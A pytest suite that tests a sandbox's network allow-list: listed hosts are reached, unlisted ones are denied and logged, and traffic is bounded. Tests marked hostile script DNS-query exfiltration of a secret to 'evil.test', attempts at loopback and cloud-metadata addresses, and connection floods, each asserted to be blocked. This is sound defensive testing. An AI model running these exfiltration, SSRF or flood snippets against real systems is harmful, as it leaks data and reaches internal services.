"""Allow-lists in real worlds: what is listed is reached by whatever programs do, and nothing else is."""

from __future__ import annotations

import asyncio
import hashlib
import io
import os
import resource
import shutil
import socket
import ssl
import struct
import subprocess
import zipfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from trellis.environments.environment import Environment, EnvironmentFault, EnvironmentSpec, EnvironmentUnavailable
from trellis.environments.network import egress

from .internet import Internet, files, internet

LABEL = f"test-{os.getpid()}/network"
HOST = "files.example.test"
DIRECT = "curl -sS --noproxy '*' --max-time 20"
PROXIED = "curl -sS --max-time 20"
BROKEN = (7, 52, 56)
"""How curl ends, depending on when it notices that a connection was reset."""
PAGE = {"/": b"hello from outside\n"}
MIB = 1 << 20

Events = list[tuple[str, dict[str, Any]]]


@pytest.fixture(params=["sandbox", pytest.param("docker", marks=pytest.mark.docker)])
def isolated(request: pytest.FixtureRequest) -> str:
    request.getfixturevalue(request.param)
    return str(request.param)


@pytest.fixture
async def outside(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Internet]:
    async with internet(monkeypatch) as made:
        yield made


@pytest.fixture
def events() -> Events:
    return []


@asynccontextmanager
async def world_of(kind: str, events: Events, *allow: str, **more: Any) -> AsyncIterator[Environment]:
    spec = EnvironmentSpec(kind=kind, allow=allow, **more)
    world = await spec.start(label=LABEL, on_event=lambda what, facts: events.append((what, dict(facts))))
    try:
        yield world
    finally:
        await world.close()


async def output(world: Environment, command: str) -> str:
    result = await world.exec(command, timeout_s=60)
    assert result.ok, result.text
    return result.stdout.decode()


async def python(world: Environment, script: str) -> str:
    await world.write_file("script.py", script.encode())
    return await output(world, "python3 script.py")


def told(events: Events) -> list[tuple[str, str]]:
    return [(what.removeprefix("network."), facts.get("host", "")) for what, facts in events]


async def until(condition: Any) -> None:
    async with asyncio.timeout(10):
        while not condition():
            await asyncio.sleep(0.01)


# --- what is on the list ---


async def test_what_is_listed_is_reached_by_any_program(isolated: str, outside: Internet, events: Events) -> None:
    await outside.serve(HOST, 80, files(PAGE))
    plain = (
        "import socket\n"
        f"s = socket.create_connection(('{HOST}', 80))\n"
        "s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
        "print(s.makefile('rb').read().decode().rpartition('\\r\\n\\r\\n')[2])"
    )
    async with world_of(isolated, events, f"{HOST.upper()}.:80") as world:
        assert await output(world, f"{DIRECT} http://{HOST}/") == "hello from outside\n"
        assert await output(world, f"{PROXIED} http://{HOST}/") == "hello from outside\n"
        assert await output(world, f"{PROXIED} --proxytunnel http://{HOST.upper()}:80/") == "hello from outside\n"
        assert await output(world, f"{PROXIED} --data-binary 12345 http://{HOST}/") == f"5 for {HOST}\n"
        assert (await python(world, plain)).strip() == "hello from outside"
        fetch = "import urllib.request as r; print(r.urlopen('http://files.example.test/').read().decode())"
        assert (await python(world, fetch)).strip() == "hello from outside"
        unset = "import os\nfor name in [n for n in os.environ if n.lower().endswith('_proxy')]: del os.environ[name]\n"
        assert (await python(world, unset + fetch)).strip() == "hello from outside"
    assert told(events) == [("allowed", HOST), ("closed", HOST)] * 7
    ways = [facts["way"] for what, facts in events if what == "network.allowed"]
    assert ways == ["direct", "proxy", "proxy", "proxy", "direct", "proxy", "direct"]
    first, closed = events[0][1], events[1][1]
    assert first == {"connection": 1, "host": HOST, "port": 80, "address": "198.51.100.1", "way": "direct"}
    assert closed["connection"] == 1
    assert closed["ended"] == "done"
    assert closed["sent_bytes"] > 50
    assert closed["received_bytes"] > len(PAGE["/"])


async def test_git_works_without_a_word_about_proxies(
    isolated: str, outside: Internet, events: Events, tmp_path: Path
) -> None:
    run = ["git", "-c", "user.name=a", "-c", "user.email=a@example.test", "-C", str(tmp_path)]
    for command in (["init", "-q"], ["commit", "-q", "--allow-empty", "-m", "first"], ["update-server-info"]):
        subprocess.run([*run, *command], check=True)
    served = {
        f"/repo/{path.relative_to(tmp_path / '.git')}": path.read_bytes()
        for path in (tmp_path / ".git").rglob("*")
        if path.is_file()
    }
    await outside.serve(HOST, 80, files(served))
    async with world_of(isolated, events, f"{HOST}:80") as world:
        bare = "env -u http_proxy -u HTTP_PROXY -u ALL_PROXY -u all_proxy"
        assert "first" in await output(world, f"{bare} git clone -q http://{HOST}/repo a && git -C a log")
        assert "first" in await output(world, f"git clone -q http://{HOST}/repo b && git -C b log")


FIND_PIP = """
if python3 -m pip --version; then echo python3 -m pip > pip
else python3 -m venv venv && echo venv/bin/python -m pip > pip
fi
"""
"""Debian's interpreter has pip in virtual environments alone."""


async def test_pip_works(isolated: str, outside: Internet, events: Events) -> None:
    wheel = io.BytesIO()
    about = "Metadata-Version: 2.1\nName: far\nVersion: 1.0\n"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("far.py", "word = 'hello from outside'\n")
        archive.writestr("far-1.0.dist-info/METADATA", about)
        archive.writestr("far-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr("far-1.0.dist-info/RECORD", "far.py,,\nfar-1.0.dist-info/METADATA,,\n")
    name = "far-1.0-py3-none-any.whl"
    page = f'<!DOCTYPE html><html><body><a href="/{name}">{name}</a></body></html>'.encode()
    await outside.serve(HOST, 80, files({"/simple/far/": page, f"/{name}": wheel.getvalue()}))
    install = f"$(cat pip) install -q --index-url http://{HOST}/simple --trusted-host {HOST} --target . far"
    async with world_of(isolated, events, f"{HOST}:80") as world:
        await output(world, FIND_PIP)
        for unset in ("", "env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY "):
            await output(world, f"rm -rf far*; {unset}{install}")
            assert await python(world, "import far; print(far.word)") == "hello from outside\n"
    assert {facts["way"] for what, facts in events if what == "network.allowed"} == {"direct", "proxy"}


async def test_a_world_knows_its_own_name(isolated: str, events: Events) -> None:
    """Servers and clusters ask for it; it is nothing to be asked outside."""
    asks = "import socket; print(socket.gethostbyname(socket.gethostname()), socket.getfqdn())"
    for allow in ((), (f"{HOST}:80",)):
        async with world_of(isolated, events, *allow) as world:
            assert (await world.exec(["python3", "-c", asks])).text == "127.0.0.1 localhost\n"
    assert events == []


@pytest.fixture(scope="session")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    if not shutil.which("openssl"):
        pytest.skip("needs the program openssl, to make a certificate")
    folder = tmp_path_factory.mktemp("tls")
    key, cert = folder / "key.pem", folder / "cert.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", f"/CN={HOST}",
         "-addext", f"subjectAltName=DNS:{HOST},DNS:deep.example.test", "-keyout", key, "-out", cert],
        check=True, capture_output=True,
    )  # fmt: skip
    return key, cert


async def test_tls_passes_from_end_to_end(
    isolated: str, outside: Internet, events: Events, certificate: tuple[Path, Path]
) -> None:
    key, cert = certificate
    tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    tls.load_cert_chain(cert, key)
    await outside.serve(HOST, 443, files(PAGE), tls)
    await outside.serve("deep.example.test", 443, files(PAGE), tls)
    async with world_of(isolated, events, f"{HOST}:443", "*.example.test:443") as world:
        await world.write_file("cert.pem", cert.read_bytes())
        for command in (DIRECT, PROXIED):
            assert await output(world, f"{command} --cacert cert.pem https://{HOST}/") == "hello from outside\n"
            assert (await world.exec(f"{command} https://{HOST}/")).exit_code == 60  # nobody vouches for it
        assert await output(world, f"{PROXIED} --cacert cert.pem https://deep.example.test/") == "hello from outside\n"


async def test_a_wildcard_is_reached_through_the_proxy(isolated: str, outside: Internet, events: Events) -> None:
    for name in ("a.example.test", "b.c.example.test", "example.test", "notexample.test"):
        await outside.serve(name, 443, files(PAGE))
    async with world_of(isolated, events, "*.example.test:443") as world:
        for name in ("a.example.test", "B.c.example.test."):
            assert await output(world, f"{PROXIED} --proxytunnel http://{name}:443/") == "hello from outside\n"
        for name in ("example.test", "notexample.test", "a.example.test.evil.test"):
            assert (await world.exec(f"{PROXIED} --proxytunnel http://{name}:443/")).exit_code == 56
        events.clear()
        assert (await world.exec(f"{DIRECT} http://a.example.test:443/")).exit_code == 6
    reason = "only the proxy knows the names below a wildcard"
    assert events == [("network.denied", {"host": "a.example.test", "way": "dns", "reason": reason})]


async def test_a_listed_address_of_the_hosts_loopback(isolated: str, outside: Internet, events: Events) -> None:
    port = await outside.serve("ours.example.test", 80, files(PAGE))
    async with world_of(isolated, events, f"127.0.0.1:{port}") as world:
        assert await output(world, f"{PROXIED} http://127.0.0.1:{port}/") == "hello from outside\n"
        assert (await world.exec(f"{DIRECT} http://127.0.0.1:{port}/")).exit_code == 7
        assert await output(world, "echo $NO_PROXY $no_proxy") == "localhost,::1 localhost,::1\n"
    assert told(events) == [("allowed", "127.0.0.1"), ("closed", "127.0.0.1")]


async def test_the_worlds_own_servers_are_reached_past_the_proxy(
    isolated: str, outside: Internet, events: Events
) -> None:
    async with world_of(isolated, events, f"{HOST}:80", env={"HTTPS_PROXY": "mine"}) as world:
        serve = "python3 -m http.server 8000 --bind 127.0.0.1 > /dev/null 2>&1 & sleep 1; "
        for name in ("localhost", "127.0.0.1"):
            assert "script" in await output(world, f"touch script; {serve} {PROXIED} http://{name}:8000/")
        assert await output(world, "python3 -c 'import socket; socket.create_server((\"\", 8443)); print(1)'") == "1\n"
        assert await output(world, "echo $HTTPS_PROXY") == "mine\n"
    assert events == []


# --- what is not ---


async def test_what_is_not_listed_is_denied_and_reported_in_order(
    isolated: str, outside: Internet, events: Events
) -> None:
    await outside.serve(HOST, 80, files(PAGE))
    await outside.serve("evil.test", 80, files(PAGE))
    async with world_of(isolated, events, f"{HOST}:80") as world:
        assert (await world.exec(f"{DIRECT} http://evil.test/")).exit_code == 6
        assert (await world.exec(f"{DIRECT} http://{HOST}:81/")).exit_code == 7
        answer = await output(world, f"{PROXIED} http://evil.test/ -w '%{{http_code}}'")
        assert answer == f"evil.test:80 is denied: not on the allow-list; this world reaches {HOST}:80\n403"
        tunnel = await world.exec(f"{PROXIED} -v --proxytunnel http://{HOST}:22/")
        assert f"403 {HOST}:22 is denied: not on the allow-list" in tunnel.text
        assert await output(world, f"{DIRECT} http://{HOST}/") == "hello from outside\n"
    assert told(events) == [
        ("denied", "evil.test"), ("denied", "evil.test"), ("denied", HOST), ("allowed", HOST), ("closed", HOST),
    ]  # fmt: skip
    listed = "not on the allow-list"
    assert events[0][1] == {"host": "evil.test", "way": "dns", "reason": listed}
    assert events[2][1] == {"host": HOST, "port": 22, "way": "proxy", "reason": listed}
    assert outside.resolved == [HOST]


@pytest.mark.hostile
async def test_addresses_and_the_hosts_loopback_are_denied(isolated: str, outside: Internet, events: Events) -> None:
    port = await outside.serve(HOST, 80, files(PAGE))
    spellings = ("127.0.0.1", "127.1", "0x7f.1", "2130706433", "[::1]", "[::ffff:127.0.0.1]", "localhost", "0.0.0.0")
    tunnel = (
        "import socket\n"
        f"for host in {spellings}:\n"
        "    s = socket.create_connection(('127.66.0.1', 3128))\n"
        f"    s.sendall(f'CONNECT {{host}}:{port} HTTP/1.1\\r\\n\\r\\n'.encode())\n"
        "    print(s.recv(100).split()[1].decode())\n"
    )
    straight = (
        "import socket\n"
        f"for place in ('127.0.0.1', {port}), ('198.51.100.1', 80), ('169.254.169.254', 80), ('127.66.0.2', {port}):\n"
        "    try:\n        socket.create_connection(place, 3)\n"
        "    except OSError as error:\n        print(type(error).__name__, error.errno)\n"
    )
    async with world_of(isolated, events, f"{HOST}:80") as world:
        assert (await python(world, tunnel)).split() == ["403", "400", "400", "400", "403", "403", "403", "403"]
        refused, unreachable = "ConnectionRefusedError 111", "OSError 101"
        assert (await python(world, straight)).splitlines() == [refused, unreachable, unreachable, refused]
    assert [host for _, host in told(events)] == ["127.0.0.1", "::1", "127.0.0.1", "localhost", "0.0.0.0"]
    assert outside.dialled == []


@pytest.mark.hostile
async def test_nothing_leaves_by_questions_for_names(isolated: str, outside: Internet, events: Events) -> None:
    secret = "c2VjcmV0LW9mLXRoZS10YXNr"
    ask = (
        "import socket, struct\n"
        "def query(name, kind=16):\n"
        "    labels = b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.'))\n"
        "    return struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>HH', kind, 1)\n"
        "udp = socket.socket(type=socket.SOCK_DGRAM)\n"
        "udp.settimeout(5)\n"
        f"udp.sendto(query('{secret}.evil.test'), ('127.66.0.1', 53))\n"
        "print(udp.recv(512)[3] & 15)\n"
        "tcp = socket.create_connection(('127.66.0.1', 53))\n"
        f"for name, kind in (('more.{secret}.evil.test', 1), ('{HOST}', 16), ('{HOST}', 1)):\n"
        "    q = query(name, kind)\n"
        "    tcp.sendall(struct.pack('>H', len(q)) + q)\n"
        "    size, = struct.unpack('>H', tcp.recv(2))\n"
        "    answer = tcp.recv(size)\n"
        "    print(answer[3] & 15, answer[7], answer[-4:] if answer[7] else '')\n"
        "try:\n    udp.sendto(b'x', ('198.51.100.1', 53))\n"
        "except OSError as error:\n    print(error.errno)\n"
        "udp.sendto(b'nonsense that is no query', ('127.66.0.1', 53))\n"
        "udp.sendto(b'', ('127.66.0.1', 53))\n"
        f"print(socket.gethostbyname('{HOST}'))\n"
    )
    async with world_of(isolated, events, f"{HOST}:80") as world:
        lines = (await python(world, ask)).splitlines()
    assert lines == ["3", "3 0 ", "0 0 ", r"0 1 b'\x7fB\x00\x02'", "101", "127.66.0.2"]
    assert told(events) == [("denied", f"{secret.lower()}.evil.test"), ("denied", f"more.{secret.lower()}.evil.test")]
    assert outside.resolved == []
    assert outside.dialled == []


@pytest.mark.hostile
async def test_a_name_that_leads_home_is_denied(isolated: str, outside: Internet, events: Events) -> None:
    port = await outside.serve("ours.example.test", 80, files(PAGE))
    home = (
        "127.0.0.1", "127.8.8.8", "::1", "::ffff:127.0.0.1", "0.0.0.0", "169.254.169.254", "fe80::1%eth0",
        "fd00:ec2::254", "64:ff9b::7f00:1", "2002:7f00:1::", "100.100.100.200", "224.0.0.1",
    )  # fmt: skip
    names = {f"name{number}.example.test": [address] for number, address in enumerate(home)}
    outside.names |= names
    outside.names["both.example.test"] = ["127.0.0.1", *outside.names["ours.example.test"]]
    allow = [f"{name}:{port}" for name in names]
    async with world_of(isolated, events, *allow, "both.example.test:80") as world:
        for name in names:
            assert await output(world, f"{PROXIED} -o /dev/null -w '%{{http_code}}' http://{name}:{port}/") == "403"
        assert (await world.exec(f"{DIRECT} http://name0.example.test:{port}/")).exit_code in BROKEN
        assert outside.dialled == []
        assert await output(world, f"{DIRECT} http://both.example.test/") == "hello from outside\n"
    denied = [facts for what, facts in events if what == "network.denied"]
    assert [facts["host"] for facts in denied] == [*names, "name0.example.test"]
    assert denied[0]["reason"] == "its name leads to 127.0.0.1, which only an entry for that address can allow"


async def test_what_is_listed_but_not_there_is_said(isolated: str, outside: Internet, events: Events) -> None:
    outside.names["down.example.test"] = ["198.51.100.99"]
    async with world_of(isolated, events, "gone.example.test:80", "down.example.test:80") as world:
        assert await output(world, f"{PROXIED} http://gone.example.test/") == (
            "gone.example.test:80 cannot be reached: Name or service not known\n"
        )
        assert "Connection refused" in await output(world, f"{PROXIED} http://down.example.test/")
        assert (await world.exec(f"{DIRECT} http://down.example.test/")).exit_code in BROKEN
    assert told(events) == [
        ("failed", "gone.example.test"), ("failed", "down.example.test"), ("failed", "down.example.test"),
    ]  # fmt: skip


async def test_nonsense_for_the_proxy_gets_one_clear_line(isolated: str, outside: Internet, events: Events) -> None:
    say = (
        "import socket\n"
        r"for text in (b'GET / HTTP/1.1\r\n\r\n', b'hello\r\n\r\n', b'CONNECT x HTTP/1.1\r\n\r\n', b'x' * 70000,"
        r"             b'GET http://u@h/ HTTP/1.1\r\n\r\n', b'GET http://h/ HTTP/1.1\r\na: b\nc: d\r\n\r\n'):"
        "\n"
        "    s = socket.create_connection(('127.66.0.1', 3128))\n"
        "    s.sendall(text)\n    s.shutdown(socket.SHUT_WR)\n"
        "    print(s.makefile('rb').readline().decode().strip())\n"
    )
    async with world_of(isolated, events, f"{HOST}:80") as world:
        lines = (await python(world, say)).splitlines()
    assert [line.split()[1] for line in lines] == ["400"] * 6
    assert "this is a proxy: it takes CONNECT host:port, or a request for http://host/..." in lines[0]
    assert "'x' is not host:port" in lines[2]
    assert events == []


# --- how bytes pass ---


async def test_a_big_download_fills_no_memory(isolated: str, outside: Internet, events: Events) -> None:
    piece = os.urandom(MIB)

    async def big(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        count = int((await reader.readuntil(b"\r\n\r\n")).split()[1].rpartition(b"/")[2])
        writer.write(f"HTTP/1.1 200 OK\r\nContent-Length: {count * MIB}\r\n\r\n".encode())
        for _ in range(count):
            writer.write(piece)
            await writer.drain()

    await outside.serve(HOST, 80, big)
    async with world_of(isolated, events, f"{HOST}:80") as world:
        before_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        for command, count in ((DIRECT, 200), (PROXIED, 20)):
            fetch = await world.exec(f"{command} --max-time 120 http://{HOST}/{count} | sha256sum", timeout_s=130)
            expected = hashlib.sha256()
            for _ in range(count):
                expected.update(piece)
            assert fetch.stdout.decode().split()[0] == expected.hexdigest()
        grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before_kb
        guest_kb = int((await output(world, "grep VmHWM /proc/1/status")).split()[1])
    assert grown_kb < 30_000
    assert guest_kb < 80_000
    received = [facts["received_bytes"] for what, facts in events if what == "network.closed"]
    assert [count // MIB for count in received] == [200, 20]


async def test_a_slow_reader_holds_the_server_up(isolated: str, outside: Internet, events: Events) -> None:
    sent = 0

    async def pour(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal sent
        await reader.readexactly(1)
        for _ in range(1024):
            writer.write(bytes(64 << 10))
            await writer.drain()
            sent += 64 << 10

    await outside.serve(HOST, 9000, pour)
    slow = (
        "import socket, sys, time\n"
        f"s = socket.create_connection(('{HOST}', 9000))\n"
        "s.sendall(b'x')\ntotal = len(s.recv(1))\n"
        "input()\n"
        "while data := s.recv(1 << 20):\n    total += len(data)\n"
        "print(total)\n"
    )
    async with world_of(isolated, events, f"{HOST}:9000") as world:
        process = await world.open_process(["python3", "-c", slow])
        await until(lambda: sent)
        await asyncio.sleep(1.5)
        held, others = sent, await output(world, "echo meanwhile")
        assert held < 40 * MIB
        assert others == "meanwhile\n"
        await process.write(b"\n")
        assert int(await process.read()) == 64 * MIB
        await process.close()


async def test_each_half_can_be_closed_first(isolated: str, outside: Internet, events: Events) -> None:
    async def count(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"%d bytes" % len(await reader.read()))
        await writer.drain()

    async def greet(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"bye")
        writer.write_eof()
        heard.append(len(await reader.read()))

    heard: list[int] = []
    await outside.serve(HOST, 9000, count)
    await outside.serve(HOST, 9001, greet)
    client = (
        "import socket\n"
        f"s = socket.create_connection(('{HOST}', 9000))\n"
        "s.sendall(bytes(10_000_000))\ns.shutdown(socket.SHUT_WR)\nprint(s.makefile('rb').read())\n"
        f"s = socket.create_connection(('{HOST}', 9001))\n"
        "print(s.makefile('rb').read())\ns.sendall(bytes(5_000_000))\n"
    )
    async with world_of(isolated, events, f"{HOST}:9000", f"{HOST}:9001") as world:
        assert (await python(world, client)).splitlines() == ["b'10000000 bytes'", "b'bye'"]
        await until(lambda: heard)
    assert heard == [5_000_000]
    closed = [facts for what, facts in events if what == "network.closed"]
    assert [(facts["ended"], facts["sent_bytes"]) for facts in closed] == [("done", 10_000_000), ("done", 5_000_000)]


async def test_fifty_connections_at_once(isolated: str, outside: Internet, events: Events) -> None:
    served = {f"/{number}": hashlib.sha256(b"%d" % number).digest() * 8000 for number in range(50)}
    await outside.serve(HOST, 80, files(served))
    client = (
        "import hashlib, urllib.request\nfrom concurrent.futures import ThreadPoolExecutor\n"
        "def fetch(n):\n"
        f"    body = urllib.request.urlopen(f'http://{HOST}/{{n}}', timeout=30).read()\n"
        "    return body == hashlib.sha256(b'%d' % n).digest() * 8000\n"
        "with ThreadPoolExecutor(50) as pool:\n    print(sum(pool.map(fetch, range(50))))\n"
    )
    unset = "import os\nfor name in [n for n in os.environ if n.lower().endswith('_proxy')]: del os.environ[name]\n"
    async with world_of(isolated, events, f"{HOST}:80") as world:
        assert await python(world, client) == "50\n"
        assert await python(world, unset + client) == "50\n"
    assert [what for what, _ in events].count("network.closed") == 100
    assert {facts["ended"] for what, facts in events if what == "network.closed"} == {"done"}


async def test_a_connection_that_breaks_breaks_on_both_sides(isolated: str, outside: Internet, events: Events) -> None:
    heard: list[str] = []

    async def reset(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readexactly(1)
        writer.write(b"some of it")
        await writer.drain()
        await asyncio.sleep(0.3)
        linger = struct.pack("ii", 1, 0)
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
        writer.transport.abort()

    async def listen(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await reader.read()
            heard.append("whole")
        except ConnectionError:
            heard.append("broken")

    await outside.serve(HOST, 9000, reset)
    await outside.serve(HOST, 9001, listen)
    client = (
        "import socket, struct\n"
        f"s = socket.create_connection(('{HOST}', 9000))\ns.sendall(b'x')\n"
        "try:\n    while s.recv(100): pass\n    print('whole')\nexcept ConnectionResetError:\n    print('broken')\n"
        f"s = socket.create_connection(('{HOST}', 9001))\ns.sendall(b'some of it')\n"
        "s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))\ns.close()\n"
    )
    async with world_of(isolated, events, f"{HOST}:9000", f"{HOST}:9001") as world:
        assert await python(world, client) == "broken\n"
        await until(lambda: heard)
    assert heard == ["broken"]
    ends = [facts["ended"] for what, facts in events if what == "network.closed"]
    assert ends == ["the server reset it", "the program left"]


async def test_a_program_that_leaves_ends_its_download(isolated: str, outside: Internet, events: Events) -> None:
    await outside.serve(HOST, 9000, endless)
    async with world_of(isolated, events, f"{HOST}:9000") as world:
        await world.exec(f"{DIRECT} --max-time 1 telnet://{HOST}:9000 > /dev/null", timeout_s=10)
        await until(lambda: len(events) == 2)
    assert events[1][1]["ended"] == "the program left"


async def endless(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while True:
        writer.write(bytes(64 << 10))
        await writer.drain()


async def test_a_world_that_is_closed_during_a_transfer(isolated: str, outside: Internet, events: Events) -> None:
    ended = asyncio.Event()

    async def pour(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await endless(reader, writer)
        finally:
            ended.set()

    await outside.serve(HOST, 9000, pour)
    async with world_of(isolated, events, f"{HOST}:9000") as world:
        command = (
            f"python3 -c \"import socket; s = socket.create_connection(('{HOST}', 9000))\nwhile s.recv(9999): pass\""
        )
        running = asyncio.create_task(world.exec(command, timeout_s=60))
        await until(lambda: events)
        await asyncio.sleep(0.2)
        await world.close()
        known = len(events)
        with suppress(EnvironmentFault):
            await running
    async with asyncio.timeout(5):
        await ended.wait()
    assert told(events) == [("allowed", HOST), ("closed", HOST)]
    assert events[1][1]["ended"] == "the world ended"
    assert events[1][1]["received_bytes"] > MIB
    assert known == len(events) == 2


async def test_idle_connections_and_their_number_are_bounded(
    isolated: str, outside: Internet, events: Events, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def silent(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.read()

    await outside.serve(HOST, 9000, silent)
    monkeypatch.setattr(egress, "CONNECTIONS", 3)
    monkeypatch.setattr(egress, "IDLE_S", 3.0)
    client = (
        "import socket\n"
        f"several = [socket.create_connection(('{HOST}', 9000)) for _ in range(5)]\n"
        "for s in several:\n"
        "    try:\n        print(s.recv(1))\n    except ConnectionResetError:\n        print('reset')\n"
    )
    async with world_of(isolated, events, f"{HOST}:9000") as world:
        assert (await python(world, client)).split() == ["reset"] * 5
        await until(lambda: len(events) == 7)
    whats = [what for what, _ in events]
    assert sorted(whats[:4]) == [*["network.allowed"] * 3, "network.denied"]
    assert whats[4:] == ["network.closed"] * 3
    assert events[whats.index("network.denied")][1] == {"reason": "more than 3 connections at once"}
    assert {facts["ended"] for what, facts in events if what == "network.closed"} == {"idle"}


async def test_the_number_of_events_is_bounded(
    isolated: str, outside: Internet, events: Events, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(egress, "EVENTS", 3)
    await outside.serve(HOST, 80, files(PAGE))
    flood = (
        "import socket\nfor n in range(500):\n"
        "    try: socket.gethostbyname(f'n{n}.evil.test')\n    except OSError: pass"
    )
    async with world_of(isolated, events, f"{HOST}:80") as world:
        await python(world, flood)
        await output(world, f"{DIRECT} http://{HOST}/")
    assert told(events) == [
        ("denied", "n0.evil.test"), ("denied", "n1.evil.test"), ("denied", "n2.evil.test"), ("muted", ""),
        ("allowed", HOST), ("closed", HOST),
    ]  # fmt: skip


@pytest.mark.hostile
async def test_a_flood_of_connections_harms_nobody(isolated: str, outside: Internet, events: Events) -> None:
    await outside.serve(HOST, 80, files(PAGE))
    flood = (
        "import socket\nheld = []\n"
        "for n in range(1500):\n"
        "    for place in ('127.66.0.1', 3128), ('127.66.0.1', 53):\n"
        "        s = socket.socket()\n        s.setblocking(False)\n"
        "        s.connect_ex(place)\n        held.append(s)\n"
        "udp = socket.socket(type=socket.SOCK_DGRAM)\n"
        "for n in range(20000): udp.sendto(bytes(30), ('127.66.0.1', 53))\n"
        "print('flooded', flush=True)\ninput()\n"
    )
    async with world_of(isolated, events, f"{HOST}:80") as world:
        process = await world.open_process(["python3", "-c", flood])
        assert await process.read() == b"flooded\n"
        assert (await world.exec("echo alive", timeout_s=20)).stdout == b"alive\n"
        assert len([task for task in asyncio.all_tasks() if task.get_name() == "a connection of a world"]) < 600
        await process.close()
        assert await output(world, f"{DIRECT} --retry 9 --retry-all-errors http://{HOST}/") == "hello from outside\n"
    assert 1 <= len([facts for what, facts in events if what == "network.denied"]) < 200
    assert told(events)[-2:] == [("allowed", HOST), ("closed", HOST)]


async def test_a_host_that_does_not_answer_has_a_deadline(
    isolated: str, outside: Internet, events: Events, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(egress, "ADDRESS_S", 0.3)
    await outside.serve(HOST, 80, files(PAGE))
    outside.silent.add("198.51.100.98")
    outside.names["slow.example.test"] = ["198.51.100.98"]
    outside.names[HOST].insert(0, "198.51.100.98")
    async with world_of(isolated, events, "slow.example.test:80", f"{HOST}:80") as world:
        assert await output(world, f"{PROXIED} http://slow.example.test/") == (
            "slow.example.test:80 cannot be reached: no answer in time\n"
        )
        assert await output(world, f"{DIRECT} http://{HOST}/") == "hello from outside\n"
        monkeypatch.setattr(egress, "DIAL_S", 0.1)
        assert (await world.exec(f"{DIRECT} http://{HOST}/")).exit_code in BROKEN
    assert told(events) == [("failed", "slow.example.test"), ("allowed", HOST), ("closed", HOST), ("failed", HOST)]


# --- worlds and policies ---


async def test_a_fork_has_a_way_out_of_its_own(isolated: str, outside: Internet, events: Events) -> None:
    await outside.serve(HOST, 80, files(PAGE))
    async with world_of(isolated, events, f"{HOST}:80") as world:
        snapshot = await world.snapshot()
        forks = [await world.fork(snapshot), await world.fork()]
        await world.close()
        for fork in forks:
            assert await output(fork, f"{DIRECT} http://{HOST}/") == "hello from outside\n"
            await fork.close()
        sealed = await replace(world.spec, allow=()).start(label=LABEL, snapshot=snapshot)
        assert (await sealed.exec(f"{DIRECT} http://{HOST}/")).exit_code == 6
        assert await output(sealed, "env | grep -ci proxy || true") == "0\n"
        await sealed.close()
    assert told(events) == [("allowed", HOST), ("closed", HOST)] * 2


async def test_a_local_world_refuses_an_allow_list() -> None:
    with pytest.raises(EnvironmentUnavailable, match="a local world cannot keep to an allow-list"):
        await EnvironmentSpec(kind="local", allow=("pkg.test:443",)).start(label=LABEL)
